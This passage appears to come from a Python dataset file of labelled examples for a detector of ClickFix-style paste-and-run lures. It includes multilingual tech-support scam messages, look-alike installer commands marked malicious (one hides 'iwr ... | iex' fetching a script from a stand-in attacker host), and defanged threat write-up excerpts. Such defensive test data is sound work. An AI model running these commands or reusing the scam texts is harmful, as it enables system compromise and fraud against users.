    """Il suo computer è stato bloccato: rilevato un virus. Non spenga il PC e chiami subito il supporto Windows al numero verde 800 555 012, interno 4321.""",
    """Sua conta foi bloqueada por acesso não autorizado. Ligue agora para 0800 555 0123, ramal 4321, e instale o AnyDesk para que o técnico possa remover o vírus.""",
    """Ваш компьютер заблокирован из-за вируса. Не выключайте компьютер и срочно позвоните в поддержку Microsoft по телефону 8-800-555-01-23, доб. 4321.""",
    """Je account is geblokkeerd wegens verdachte activiteit. Bel direct 0800 555 0123, toestel 4321, en installeer AnyDesk zodat wij het virus kunnen verwijderen.""",
    """お客様のパソコンはウイルスに感染しています。すぐにマイクロソフトサポート 0120-555-012 までお電話ください。内線4321""",
    """警告：お使いのコンピューターはブロックされています。ウイルスが検出されました。サポート窓口 050-5555-0123（内線4321）に電話してください。""",
]


def helpdesk(book: Book) -> None:
    for i, (app, _language, text) in enumerate(HELPDESK_MAILS):
        book.add("helpdesk-mail", text, "not_flagged", "any", (OTHER, UNKNOWN)[i % 2], app)
        if i % 3 == 0:
            book.add("helpdesk-mail", text, "not_flagged", "any", UNKNOWN, None)
    for i, text in enumerate(HELPDESK_LOOKALIKES):
        book.add("helpdesk-mail", text, "flagged", "any", (OTHER, UNKNOWN)[i % 2], "outlook")


# -- a vendor's own installer kept in a cloud bucket, from the vendor's own docs ---------------

DD_DOCS = "https://docs.datadoghq.com/agent/basic_agent_usage/windows/"
DD_MSI = "https://s3.amazonaws.com/ddagent-windows-stable/datadog-agent-7-latest.amd64.msi"
VENDOR_BUCKET = [
    (DD_DOCS, f'msiexec /i "{DD_MSI}" /qn APIKEY="<YOUR_API_KEY>" SITE="datadoghq.com"'),
    (
        "https://docs.datadoghq.com/agent/guide/windows-agent-ddagent-user/",
        f'Start-Process -Wait msiexec -ArgumentList \'/qn /i {DD_MSI} APIKEY="<API_KEY>" SITE="datadoghq.eu"\'',
    ),
    (
        "https://docs.datadoghq.com/agent/basic_agent_usage/windows/?tab=commandline",
        f'msiexec.exe /qn /i {DD_MSI} APIKEY="<DATADOG_API_KEY>" TAGS="env:prod,team:web" HOSTNAME="web-01"',
    ),
    (
        "https://docs.datadoghq.com/agent/basic_agent_usage/windows/",
        "$p = Start-Process -Wait -PassThru msiexec -ArgumentList '/qn /i https://s3.amazonaws.com/ddagent-windows-stable/datadog-agent-7.58.2-1.x86_64.msi /log C:\\Windows\\SystemTemp\\install-datadog.log APIKEY=\"<API_KEY>\"'",
    ),
    (
        "https://docs.rapid7.com/insight-agent/download/",
        "msiexec /i https://s3.amazonaws.com/com.rapid7.razor.public/endpoint/agent/latest/windows/x86_64/PyForensicsAgent-x64.msi /l*v insight_agent_install_log.log CUSTOMTOKEN=us:00000000-1111-2222-3333-444444444444 /quiet",
    ),
    (
        "https://docs.larkspurhq.example/agent/install/windows",
        "msiexec /i https://s3.amazonaws.com/larkspur-agent-releases/larkspur-agent-2.4.1-x64.msi /qn TOKEN=<ORG_TOKEN>",
    ),
    (
        "https://docs.larkspurhq.example/agent/install/windows",
        "msiexec /i https://larkspur-dist.s3.eu-west-1.amazonaws.com/windows/larkspur-agent-latest.msi /qn",
    ),
    (
        "https://www.quillmere.example/docs/sensor/windows",
        "msiexec /package https://quillmerereleases.blob.core.windows.net/sensor/quillmere-sensor-x64.msi /quiet /norestart",
    ),
    (
        "https://docs.harrowfield.example/edge/install",
        "msiexec /i https://storage.googleapis.com/harrowfield-dist/windows/harrowfield-edge-1.9.0.msi /qn ACCEPT_EULA=1",
    ),
    (
        "https://docs.thistlewood.example/collector/windows",
        "msiexec /i https://s3.amazonaws.com/example.thistlewood.collector/stable/thistlewood-collector.msi /qn",
    ),
    (
        "https://docs.brackenlabs.example/cli/windows",
        'Invoke-WebRequest -Uri https://bracken-downloads.s3.amazonaws.com/cli/bracken-cli-x64.msi -OutFile "$env:TEMP\\bracken-cli.msi"; Start-Process msiexec -ArgumentList "/i $env:TEMP\\bracken-cli.msi /qn" -Wait',
    ),
    (
        "https://docs.ferncloud.example/install/windows-agent",
        "curl.exe -Lo ferncloud-agent.msi https://ferncloud-releases.s3.us-west-2.amazonaws.com/agent/ferncloud-agent-3.2.0.msi && msiexec /i ferncloud-agent.msi /qn",
    ),
]

# a lure page with the vendor's shape, the vendor's page with an unrelated bucket or a file not
# named after the product, a community page of the vendor's site, a look-alike site and bucket
VENDOR_BUCKET_LOOKALIKES = [
    (CHECK_PAGE, f'msiexec /i "{DD_MSI}" /qn APIKEY="<YOUR_API_KEY>"', RUN, "malicious"),
    (
        CHECK_PAGE,
        "msiexec /i https://s3.amazonaws.com/datadog-agent-update/datadog-agent-7.msi /qn",
        TERMINAL,
        "malicious",
    ),
    (
        DD_DOCS,
        "msiexec /i https://s3.amazonaws.com/free-tools-x/setup.msi /qn",
        TERMINAL,
        "malicious",
    ),
    (
        DD_DOCS,
        "msiexec /i https://s3.amazonaws.com/ddagent-windows-stable/update.msi /qn",
        TERMINAL,
        "malicious",
    ),
    (
        DD_DOCS,
        "msiexec /i https://s3.amazonaws.com/kestrel-drop/patch/KB5034441.msi /qn",
        TERMINAL,
        "malicious",
    ),
    (
        "https://community.datadoghq.com/t/agent-install-fails/1234",
        "msiexec /i https://s3.amazonaws.com/dd-agent-fix/datadog-agent-fix.msi /qn",
        TERMINAL,
        "malicious",
    ),
    (
        "https://datadog-support.kestrel-drop.test/agent/windows",
        "msiexec /i https://s3.amazonaws.com/datadog-support-files/datadog-agent-7.msi /qn",
        TERMINAL,
        "malicious",
    ),
    (
        "https://docs.larkspurhq.example/agent/install/windows",
        "msiexec /i https://s3.amazonaws.com/larkspur-agent-releases/larkspur-agent-2.4.1-x64.msi /qn & powershell -w h -c iwr https://files.kestrel-drop.test/a.ps1|iex",
        TERMINAL,
        "malicious",
    ),
    (
        "https://news.kestrel-drop.test/how-to-fix-agent",
        "msiexec /i https://s3.amazonaws.com/larkspur-agent-releases/larkspur-agent-2.4.1-x64.msi /qn",
        TERMINAL,
        "flagged",
    ),
    (
        "https://docs.larkspurhq.example/agent/install/windows",
        "msiexec /i https://pastebin.com/raw/larkspur-agent.msi /qn",
        TERMINAL,
        "malicious",
    ),
]


def vendor_bucket(book: Book) -> None:
    for i, (page, text) in enumerate(VENDOR_BUCKET):
        book.add("vendor-bucket-msiexec", text, "not_flagged", "windows", TERMINAL, page)
        if i % 3 == 0:
            book.add("vendor-bucket-msiexec", text, "not_flagged", "windows", UNKNOWN, page)
    for page, text, target, expect in VENDOR_BUCKET_LOOKALIKES:
        book.add("vendor-bucket-msiexec", text, expect, "windows", target, page)
    for _, text in VENDOR_BUCKET[:4]:
        book.add("vendor-bucket-msiexec", text, "flagged", "windows", TERMINAL, None)


# -- the sweep: more ordinary texts of the kinds a fresh hold-out holds --------------------------

# (a) installers quoted in OTHER projects' docs (the tool's own host, another project's page)
SWEEP_QUOTED_INSTALLERS = [
    (
        "https://github.com/quillmere/llm-playground#setup",
        "curl -fsSL https://ollama.com/install.sh | sh",
    ),
    (
        "https://github.com/quillmere/llm-playground#setup",
        "irm https://ollama.com/install.ps1 | iex",
    ),
    (
        "https://github.com/harrowfield/py-monorepo",
        "curl -LsSf https://astral.sh/uv/install.sh | sh",
    ),
    (
        "https://github.com/harrowfield/py-monorepo",
        'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
    ),
    (
        "https://docs.quillmere.example/contributing",
        "curl -sSL https://install.python-poetry.org | python3 -",
    ),
    (
        "https://docs.quillmere.example/contributing",
        "(Invoke-WebRequest -Uri https://install.python-poetry.org -UseBasicParsing).Content | py -",
    ),
    (
        "https://github.com/harrowfield/web-app#prerequisites",
        "curl -fsSL https://bun.sh/install | bash",
    ),
    (
        "https://github.com/harrowfield/web-app#prerequisites",
        'powershell -c "irm bun.sh/install.ps1 | iex"',
    ),
    ("https://github.com/quillmere/deno-api", "curl -fsSL https://deno.land/install.sh | sh"),
    ("https://github.com/quillmere/deno-api", "irm https://deno.land/install.ps1 | iex"),
    (
        "https://github.com/harrowfield/rust-service#building",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --default-toolchain stable",
    ),
    (
        "https://github.com/quillmere/node-cli",
        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
    ),
    ("https://github.com/quillmere/node-cli", "curl -fsSL https://get.pnpm.io/install.sh | sh -"),
    ("https://github.com/quillmere/node-cli", "iwr https://get.pnpm.io/install.ps1 -useb | iex"),
    (
        "https://github.com/harrowfield/mac-bootstrap",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "https://github.com/harrowfield/win-bootstrap",
        "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser\nirm get.scoop.sh | iex",
    ),
    (
        "https://github.com/harrowfield/win-bootstrap",
        "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    ),
    (
        "https://github.com/quillmere/k8s-lab",
        'curl -LO "https://dl.k8s.io/release/$(curl -L -s https://dl.k8s.io/release/stable.txt)/bin/linux/amd64/kubectl"',
    ),
    (
        "https://github.com/quillmere/k8s-lab",
        "curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3\nchmod 700 get_helm.sh\n./get_helm.sh",
    ),
    ("https://github.com/quillmere/k8s-lab", "curl -sfL https://get.k3s.io | sh -"),
    (
        "https://github.com/harrowfield/docker-notes",
        "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh",
    ),
    (
        "https://github.com/harrowfield/tailnet-setup",
        "curl -fsSL https://tailscale.com/install.sh | sh",
    ),
    (
        "https://github.com/harrowfield/infra-live",
        "curl -fsSL https://apt.releases.hashicorp.com/gpg | sudo gpg --dearmor -o /usr/share/keyrings/hashicorp-archive-keyring.gpg",
    ),
    (
        "https://github.com/quillmere/aws-scripts",
        'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip"\nunzip awscliv2.zip\nsudo ./aws/install',
    ),
    (
        "https://github.com/quillmere/azure-scripts",
        "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash",
    ),
    ("https://github.com/quillmere/gcp-scripts", "curl https://sdk.cloud.google.com | bash"),
    (
        "https://github.com/harrowfield/flutter-app",
        "git clone https://github.com/flutter/flutter.git -b stable ~/development/flutter",
    ),
    (
        "https://github.com/harrowfield/go-service",
        "wget https://go.dev/dl/go1.23.4.linux-amd64.tar.gz\nsudo rm -rf /usr/local/go && sudo tar -C /usr/local -xzf go1.23.4.linux-amd64.tar.gz",
    ),
    (
        "https://github.com/quillmere/zsh-config",
        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
    ),
    ("https://github.com/quillmere/zsh-config", "curl -sS https://starship.rs/install.sh | sh"),
    (
        "https://github.com/harrowfield/gh-actions-notes",
        "curl -fsSL https://cli.github.com/packages/githubcli-archive-keyring.gpg | sudo dd of=/usr/share/keyrings/githubcli-archive-keyring.gpg",
    ),
    (
        "https://github.com/harrowfield/static-site",
        "curl -L https://github.com/gohugoio/hugo/releases/download/v0.139.3/hugo_extended_0.139.3_linux-amd64.tar.gz | tar -xz",
    ),
    (
        "https://github.com/quillmere/ml-notes",
        "wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh\nbash Miniconda3-latest-Linux-x86_64.sh -b -p $HOME/miniconda3",
    ),
    ("https://github.com/quillmere/ml-notes", '"${SHELL}" <(curl -L micro.mamba.pm/install.sh)'),
    ("https://github.com/harrowfield/supabase-demo", "npx supabase init"),
    (
        "https://github.com/harrowfield/terraform-modules",
        "winget install --id Hashicorp.Terraform -e",
    ),
    (
        "https://github.com/harrowfield/win-dev-setup",
        "winget install --id Microsoft.PowerShell --source winget\nwinget install --id Git.Git -e --source winget",
    ),
    (
        "https://github.com/quillmere/rust-wasm",
        "cargo install wasm-pack\ncurl https://rustwasm.github.io/wasm-pack/installer/init.sh -sSf | sh",
    ),
    (
        "https://docs.harrowfield.example/dev/setup",
        'iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI -Quiet"',
    ),
    ("https://docs.harrowfield.example/dev/setup", "dotnet tool install --global dotnet-ef"),
]

# (b) admin and ops one-liners from vendors' docs and Q&A answers
SWEEP_ADMIN = [
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/robocopy",
        "robocopy C:\\Users\\Public\\Documents \\\\fs01\\backup\\docs /MIR /R:2 /W:5 /LOG:C:\\Temp\\robocopy.log",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/restart-service",
        "Restart-Service -Name Spooler -Force",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/printing/",
        "net stop spooler\ndel /Q /F /S %systemroot%\\System32\\spool\\PRINTERS\\*\nnet start spooler",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/deployment/update/windows-update-resources",
        "net stop wuauserv\nnet stop bits\nren C:\\Windows\\SoftwareDistribution SoftwareDistribution.old\nnet start bits\nnet start wuauserv",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/netsecurity/new-netfirewallrule",
        'New-NetFirewallRule -DisplayName "Allow RDP from VPN" -Direction Inbound -Protocol TCP -LocalPort 3389 -RemoteAddress 10.8.0.0/16 -Action Allow',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/schtasks-create",
        'schtasks /create /tn "Nightly Backup" /tr "C:\\Scripts\\backup.cmd" /sc daily /st 02:00 /ru SYSTEM',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/activedirectory/unlock-adaccount",
        "Unlock-ADAccount -Identity jsmith\nGet-ADUser jsmith -Properties LockedOut, BadLogonCount | Select-Object Name, LockedOut, BadLogonCount",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/exchange/connect-to-exchange-online-powershell",
        "Install-Module -Name ExchangeOnlineManagement -Scope CurrentUser\nConnect-ExchangeOnline -UserPrincipalName admin@contoso.onmicrosoft.com",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/microsoftgraph/installation",
        'Install-Module Microsoft.Graph -Scope CurrentUser -Repository PSGallery -Force\nConnect-MgGraph -Scopes "User.Read.All","Group.ReadWrite.All"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/operating-system-security/data-protection/bitlocker/",
        "manage-bde -status C:\nmanage-bde -protectors -get C:",
    ),
    (
        "https://superuser.com/questions/1019876/how-to-find-which-process-is-using-a-port",
        'netstat -ano | findstr :8080\ntasklist /FI "PID eq 4312"',
    ),
    (
        "https://superuser.com/questions/1204/flush-dns-windows",
        "ipconfig /flushdns && ipconfig /registerdns && netsh winsock reset",
    ),
    (
        "https://stackoverflow.com/questions/4037939/powershell-says-execution-of-scripts-is-disabled-on-this-system",
        "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser",
    ),
    (
        "https://stackoverflow.com/questions/1788473/how-to-get-the-size-of-a-folder",
        "Get-ChildItem C:\\Users\\me\\Downloads -Recurse | Measure-Object -Property Length -Sum",
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/procdump",
        "procdump -ma -e 1 -x C:\\Dumps w3wp.exe",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/openssh/openssh_install_firstuse",
        "Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0\nStart-Service sshd\nSet-Service -Name sshd -StartupType 'Automatic'",
    ),
    ("https://learn.microsoft.com/en-us/windows/wsl/install", "wsl --install -d Ubuntu-24.04"),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/upgrade",
        "winget upgrade --all --include-unknown --accept-source-agreements",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-server/group-policy/",
        "gpresult /h C:\\Temp\\gp-report.html /f",
    ),
    (
        "https://www.digitalocean.com/community/tutorials/how-to-set-up-a-firewall-with-ufw-on-ubuntu",
        "sudo ufw default deny incoming\nsudo ufw default allow outgoing\nsudo ufw allow OpenSSH\nsudo ufw enable",
    ),
    (
        "https://www.digitalocean.com/community/tutorials/how-to-add-swap-space-on-ubuntu-22-04",
        "sudo fallocate -l 2G /swapfile\nsudo chmod 600 /swapfile\nsudo mkswap /swapfile\nsudo swapon /swapfile",
    ),
    (
        "https://certbot.eff.org/instructions?ws=nginx&os=snap",
        "sudo snap install --classic certbot\nsudo ln -s /snap/bin/certbot /usr/bin/certbot\nsudo certbot --nginx",
    ),
    (
        "https://docs.docker.com/engine/install/ubuntu/",
        "for pkg in docker.io docker-doc docker-compose podman-docker containerd runc; do sudo apt-get remove $pkg; done",
    ),
    ("https://docs.docker.com/config/pruning/", "docker system prune -a --volumes -f"),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl get pods -A --field-selector=status.phase!=Running\nkubectl logs -n kube-system deploy/coredns --tail=50",
    ),
    (
        "https://unix.stackexchange.com/questions/6852/best-way-to-remove-bytes-from-the-start-of-a-file",
        "tail -c +5 input.bin > output.bin",
    ),
    (
        "https://askubuntu.com/questions/1007591/usr-bin-ld-cannot-find-lopencv",
        "sudo apt-get install --reinstall libopencv-dev && sudo ldconfig",
    ),
    (
        "https://wiki.archlinux.org/title/Systemd/Journal",
        'journalctl -u sshd --since "1 hour ago" --no-pager | grep -i failed',
    ),
    (
        "https://www.postgresql.org/docs/current/app-pgdump.html",
        "pg_dump -h db01 -U app -Fc appdb > appdb-$(date +%F).dump",
    ),
    (
        "https://redis.io/docs/latest/develop/tools/cli/",
        "redis-cli -h 10.0.3.5 -p 6379 --scan --pattern 'session:*' | head",
    ),
    (
        "https://support.apple.com/en-us/102149",
        "sudo softwareupdate --install-rosetta --agree-to-license",
    ),
    ("https://support.apple.com/en-us/101578", "sudo pmset -a hibernatemode 0\npmset -g"),
    (
        "https://apple.stackexchange.com/questions/3271/how-to-get-rid-of-firewall-accept-incoming-connections-dialog",
        "sudo codesign --force --deep --sign - /Applications/MyApp.app",
    ),
    (
        "https://apple.stackexchange.com/questions/243687/allow-applications-downloaded-from-anywhere-in-macos-sierra",
        "xattr -dr com.apple.quarantine /Applications/Obsidian.app",
    ),
    (
        "https://support.apple.com/guide/deployment/",
        "sudo profiles show -type enrollment\nsudo profiles renew -type enrollment",
    ),
    (
        "https://learn.microsoft.com/en-us/mem/intune/apps/intune-management-extension",
        'Get-Content "C:\\ProgramData\\Microsoft\\IntuneManagementExtension\\Logs\\IntuneManagementExtension.log" -Tail 100 -Wait',
    ),
    (
        "https://learn.microsoft.com/en-us/mem/intune/remote-actions/device-sync",
        "Get-ScheduledTask | Where-Object {$_.TaskName -eq 'PushLaunch'} | Start-ScheduledTask",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity/devices/troubleshoot-device-dsregcmd",
        'dsregcmd /status | findstr /i "AzureAdJoined DomainJoined TenantName"',
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/networking/",
        "netsh int ip reset\nnetsh winhttp show proxy",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/storage/disk-management/",
        "diskpart\nlist disk\nselect disk 1\nattributes disk clear readonly",
    ),
]

# (c) console snippets from docs and Q&A (a site's own console, DevTools tips)
SWEEP_CONSOLE = [
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(JSON.stringify(performance.getEntriesByType('navigation')[0], null, 2))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "monitorEvents(window, 'resize')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/now",
        "const t0 = performance.now(); doSomething(); console.log(`took ${performance.now() - t0} ms`);",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/querySelectorAll",
        "document.querySelectorAll('img:not([alt])').forEach(img => console.log(img.src))",
    ),
    (
        "https://stackoverflow.com/questions/951021/what-is-the-javascript-version-of-sleep",
        "await new Promise(r => setTimeout(r, 2000));",
    ),
    (
        "https://stackoverflow.com/questions/400212/how-do-i-copy-to-the-clipboard-in-javascript",
        "navigator.clipboard.writeText('hello').then(() => console.log('copied'))",
    ),
    (
        "https://web.dev/articles/vitals",
        "new PerformanceObserver((list) => { for (const e of list.getEntries()) console.log(e.name, e.startTime); }).observe({type: 'largest-contentful-paint', buffered: true});",
    ),
    (
        "https://developer.chrome.com/docs/devtools/accessibility/reference",
        "[...document.querySelectorAll('*')].filter(el => getComputedStyle(el).outlineStyle === 'none' && el.tabIndex >= 0).length",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Service_Worker_API/Using_Service_Workers",
        "navigator.serviceWorker.getRegistrations().then(rs => rs.forEach(r => r.unregister()))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "fetch('/api/health').then(r => r.json()).then(console.table)",
    ),
    (
        "https://stackoverflow.com/questions/3387427/remove-element-by-id",
        "document.getElementById('cookie-banner')?.remove()",
    ),
    (
        "https://developer.chrome.com/docs/devtools/network/reference",
        "performance.getEntriesByType('resource').filter(r => r.transferSize > 500000).map(r => r.name)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/matchMedia",
        "window.matchMedia('(prefers-color-scheme: dark)').matches",
    ),
    (
        "https://docs.github.com/en/get-started/accessibility/keyboard-shortcuts",
        "document.documentElement.dataset.colorMode = 'dark'",
    ),
    (
        "https://stackoverflow.com/questions/5525071/how-to-wait-until-an-element-exists",
        "const obs = new MutationObserver(() => { if (document.querySelector('#app')) { console.log('ready'); obs.disconnect(); } }); obs.observe(document.body, {childList: true, subtree: true});",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Intl/DateTimeFormat",
        "new Intl.DateTimeFormat('de-DE', { dateStyle: 'full' }).format(new Date())",
    ),
    ("https://react.dev/learn/react-developer-tools", "$r.props"),
    ("https://angular.dev/tools/devtools", "ng.getComponent(document.querySelector('app-root'))"),
    (
        "https://vuejs.org/guide/scaling-up/tooling",
        "document.querySelector('#app').__vue_app__.config.globalProperties",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/api",
        "console.time('render'); renderList(); console.timeEnd('render');",
    ),
    (
        "https://stackoverflow.com/questions/1349404/generate-random-string-characters-in-javascript",
        "crypto.randomUUID()",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Web_Storage_API",
        "Object.keys(localStorage).filter(k => k.startsWith('debug:')).forEach(k => localStorage.removeItem(k))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/log",
        "console.log('%cBuild %s', 'color: green', document.querySelector('meta[name=build]')?.content)",
    ),
    ("https://www.wikipedia.org/", "document.designMode = 'on'"),
    (
        "https://stackoverflow.com/questions/7381704/sum-values-in-html-table-column",
        "[...document.querySelectorAll('td.amount')].reduce((s, td) => s + parseFloat(td.textContent), 0)",
    ),
]

# (d) security write-ups quoting lures, incident notes with defanged indicators
SWEEP_WRITEUPS = [
    (
        "https://www.huntress.com/blog/",
        "The fake CAPTCHA instructed visitors to press Win+R and paste a command that launched mshta against hxxps://check-cdn[.]example/verify. We blocked the domain and reset the user's password.",
    ),
    (
        "https://redcanary.com/blog/threat-intelligence/",
        "Indicators:\n- hxxps://update-browser[.]example/chrome.zip\n- 198.51.100[.]23\n- SHA256 6f1c0e0b0f0e5b1c9d2a3b4c5d6e7f8090a1b2c3d4e5f60718293a4b5c6d7e8f",
    ),
    (
        "https://unit42.paloaltonetworks.com/",
        "Stage 1 was a PowerShell one-liner copied by the lure page (iwr | iex from hxxp://203.0.113[.]7/a.ps1); stage 2 dropped a NetSupport RAT under %APPDATA%\\Roaming\\WinUpdate.",
    ),
    (
        "https://www.proofpoint.com/us/blog/threat-insight/",
        "The lure asks the user to open Explorer's address bar and paste a path that looks like a document; behind 200 spaces sits the real command. Defenders can alert on explorer.exe spawning powershell.exe with a '#' in the command line.",
    ),
    (
        "https://www.microsoft.com/en-us/security/blog/",
        "Observed RunMRU values included variations of 'mshta hxxps://captcha-verify[.]example/?s=1 # I am not a robot', each followed by the same reCAPTCHA-style comment.",
    ),
    (
        "https://www.sekoia.io/en/blog/",
        "Table 2 - ClickFix infrastructure (defanged)\nverify-cdn[.]example  2025-10-02  Lumma\ncaptcha-check[.]example 2025-10-05  Vidar\n198.51.100[.]77        2025-10-06  NetSupport",
    ),
    (
        "https://expel.com/blog/",
        "Timeline (UTC)\n09:12 user pastes command into Run dialog\n09:12 powershell.exe spawns from explorer.exe\n09:13 outbound connection to 203.0.113[.]44:443\n09:15 EDR isolates host",
    ),
    (
        "https://www.guardio.io/blog",
        "Why this works: the page copies the command for you, so all the victim does is Win+R, Ctrl+V, Enter. Never paste anything a website tells you to into the Run box.",
    ),
    (
        "https://www.zscaler.com/blogs/security-research",
        "The macOS variant told users to open Terminal and paste a base64 blob piped to bash, which fetched an AMOS stealer from hxxp://198.51.100[.]12/mac.sh.",
    ),
    (
        "https://pushsecurity.com/blog/",
        "ConsentFix in one sentence: the attacker has the victim sign in normally, then paste the localhost redirect URL (with the authorization code in it) back into the phishing page.",
    ),
    (
        "https://intranet.harrowfield.example/security/incident-2025-114",
        "Incident 2025-114 summary: one workstation affected, no lateral movement. Root cause: user followed a fake Cloudflare check on a compromised WordPress site. Actions: reimaged, credentials rotated, blocklist updated with the defanged domains below.\n- cloudflare-check[.]example\n- cdn-static-verify[.]example",
    ),
    (
        "https://www.bleepingcomputer.com/news/security/",
        "Researchers say the campaign rotates its lure text weekly, from 'Verify you are human' to 'Fix DNS error', but the final step is always the same: paste and run.",
    ),
    (
        "https://www.cisa.gov/news-events/cybersecurity-advisories",
        "Mitigations: disable the Run dialog for standard users via Group Policy where feasible, and monitor for mshta.exe, powershell.exe and conhost.exe --headless launched by explorer.exe.",
    ),
    (
        "https://attack.mitre.org/techniques/T1204/004/",
        "Adversaries may trick users into copying and pasting malicious code into a command and scripting interpreter. The code is often placed on the clipboard by a web page.",
    ),
    (
        "https://www.sans.org/blog/",
        "Hunting tip: RunMRU lives under HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU; a value ending in '\\1' with powershell or mshta in it deserves a look.",
    ),
    (
        "https://www.recordedfuture.com/research/",
        "Figure 4 shows the clipboard payload after deobfuscation: a call to hxxps://stat-counter[.]example/c.php that returns a second PowerShell stage.",
    ),
    (
        "https://any.run/cybersecurity-blog/",
        "Process tree: explorer.exe > powershell.exe -w h -nop > msbuild.exe (injected). Network: POST to 203.0.113[.]90/gate.php every 60 s.",
    ),
    (
        "https://www.trendmicro.com/en_us/research.html",
        "The GitHub-hosted repositories posed as game cheats; the README told users to run 'curl ... | bash' against a raw URL that we have since reported (defanged: raw[.]githubusercontent[.]com/x/y/main/i.sh).",
    ),
    (
        "https://securelist.com/",
        "In the Telegram variant, a bot sends a 'verification' link; the page then asks to run a command in PowerShell. We track the cluster as ClickFake.",
    ),
    (
        "https://www.malwarebytes.com/blog",
        "If you already ran the command: disconnect from the internet, run a full scan, and change your passwords from a different device.",
    ),
]

# (e) support mails, order confirmations and notices in several languages (no scam ask)
SWEEP_MAILS = [
    (
        "outlook",
        "Thank you for your order #40912! Your Dell Latitude 7450 will ship within 2 business days. Questions? Call our sales team at 1-555-0100 (Mon-Fri 8am-6pm) or reply to this email.",
    ),
    (
        "outlook",
        "Ihre Bestellung 2025-88431 wurde versandt. Sendungsverfolgung: https://tracking.harrowfield.example/88431. Bei Fragen erreichen Sie unseren Kundenservice unter 030 5555 0100 (Mo-Fr 9-17 Uhr).",
    ),
    (
        "outlook",
        "Votre commande n° 55120 a bien été enregistrée. Livraison prévue le 12 décembre. Pour toute question, contactez le service client au 01 55 55 01 00 du lundi au vendredi.",
    ),
    (
        "outlook",
        "Su pedido 77310 ha sido enviado. Puede seguirlo en https://envios.quillmere.example/77310. Atención al cliente: 91 555 01 00 (L-V, 9:00-18:00).",
    ),
    (
        "outlook",
        "Il tuo ordine 33019 è stato spedito. Per assistenza chiama il servizio clienti allo 02 5555 0100, dal lunedì al venerdì.",
    ),
    (
        "outlook",
        "Seu pedido 99021 foi enviado! Acompanhe em https://rastreio.quillmere.example/99021. Dúvidas? Central de atendimento: (11) 5555-0100.",
    ),
    (
        "outlook",
        "Je bestelling 12077 is onderweg. Vragen? Bel onze klantenservice op 020 555 0100 (ma-vr 9-17 uur).",
    ),
    (
        "outlook",
        "Twoje zamówienie nr 45102 zostało wysłane. W razie pytań zadzwoń do biura obsługi klienta: 22 555 01 00 (pn-pt 8-16).",
    ),
    (
        "outlook",
        "Siparişiniz (No: 66012) kargoya verildi. Sorularınız için müşteri hizmetlerimizi 0212 555 01 00 numarasından arayabilirsiniz.",
    ),
    (
        "outlook",
        "Ваш заказ № 30311 отправлен. Вопросы по доставке: +7 495 555-01-00 (пн-пт, 9:00-18:00).",
    ),
    (
        "outlook",
        "ご注文（注文番号 20451）を発送いたしました。お問い合わせはカスタマーセンター 03-5555-0100（平日9時〜18時）までお電話ください。",
    ),
    (
        "outlook",
        "您的订单 88120 已发货。如有疑问，请拨打客服电话 400-555-0100（工作日 9:00-18:00）。",
    ),
    (
        "outlook",
        "تم شحن طلبك رقم 55019. للاستفسار يرجى الاتصال بخدمة العملاء على 800 555 0100 من الأحد إلى الخميس.",
    ),
    (
        "outlook",
        "Your Microsoft 365 subscription renews on 1 January. No action is needed. To manage your subscription, go to account settings at https://admin.microsoft.com. Questions? Contact your administrator.",
    ),
    (
        "outlook",
